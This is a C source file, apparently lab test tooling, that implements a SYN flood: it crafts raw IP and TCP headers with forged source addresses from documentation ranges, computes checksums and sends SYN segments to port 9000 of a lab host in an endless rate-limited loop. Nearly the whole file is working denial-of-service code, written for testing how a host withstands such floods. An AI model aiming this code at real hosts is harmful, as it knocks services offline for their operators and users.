/* SPDX-License-Identifier: MIT */
/*
 * A SYN flood with forged sources, for the laboratory: at most 2000 segments a second
 * from the documentation's networks (RFC 5737) to port 9000 of the host.  It leaves
 * the peer's namespace through lab0 and nothing else.  Called in an actor's process.
 */
#include <arpa/inet.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>

#include "tools/lab.h"

#define PORT		9000
#define A_ROUND		10
#define ROUND_MS	5

struct syn {
	struct iphdr	ip;
	struct tcphdr	tcp;
};

static uint16_t sum(uint32_t s, const void *data, size_t n)
{
	uint16_t w;

	for (size_t i = 0; i + 1 < n; i += 2) {
		memcpy(&w, (const char *)data + i, 2);
		s += w;
	}
	while (s >> 16)
		s = (s & 0xffff) + (s >> 16);
	return (uint16_t)s;
}

static void make(struct syn *s, uint32_t r)
{
	uint32_t net = r & 1 ? 0xcb007100 : 0xc6336400;	/* 203.0.113.0, 198.51.100.0 */
	uint32_t src = htonl(net | (1 + (r >> 8) % 254)), dst = inet_addr(LAB_HOST_IP);
	uint32_t pseudo = htons(IPPROTO_TCP) + htons(sizeof(s->tcp));

	*s = (struct syn){
		.ip = { .version = 4, .ihl = 5, .ttl = 64, .protocol = IPPROTO_TCP,
			.tot_len = htons(sizeof(*s)), .saddr = src, .daddr = dst },
		.tcp = { .dest = htons(PORT), .doff = 5, .syn = 1, .window = htons(65535) },
	};
	s->tcp.source = htons((uint16_t)(1024 + (uint32_t)rand() % 60000));
	s->tcp.seq = (uint32_t)rand();
	pseudo = sum(pseudo, &src, 4);
	pseudo = sum(pseudo, &dst, 4);
	s->tcp.check = (uint16_t)~sum(pseudo, &s->tcp, sizeof(s->tcp));
}

void lab_flood(void)
{
	struct sockaddr_in to = { .sin_family = AF_INET,
				  .sin_addr.s_addr = inet_addr(LAB_HOST_IP) };
	int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
	struct syn s;

	srand((unsigned)lab_now_ms());
	for (;;) {			/* until it is killed */
		for (int i = 0; i < A_ROUND; i++) {
			make(&s, (uint32_t)rand());
			sendto(fd, &s, sizeof(s), 0, (struct sockaddr *)&to, sizeof(to));
		}
		lab_nap(ROUND_MS);
	}
}
